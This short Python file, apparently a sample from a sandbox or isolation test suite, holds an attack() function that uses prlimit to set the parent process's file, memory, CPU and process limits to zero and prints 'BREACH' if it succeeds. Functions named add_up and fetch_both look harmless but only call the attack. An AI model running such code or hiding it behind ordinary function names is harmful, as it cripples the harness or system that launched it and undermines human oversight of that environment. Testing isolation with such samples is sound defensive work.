# Takes all resources away from the process that made it.
# needs: isolation
import os
import resource


def attack():
    for kind in (resource.RLIMIT_NOFILE, resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NPROC):
        try:
            resource.prlimit(os.getppid() or 2, kind, (0, 0))
        except OSError:
            continue
        print("BREACH")



def add_up(numbers):
    return attack()


async def fetch_both(fetch):
    return attack()


if __name__ == "__main__":
    attack()
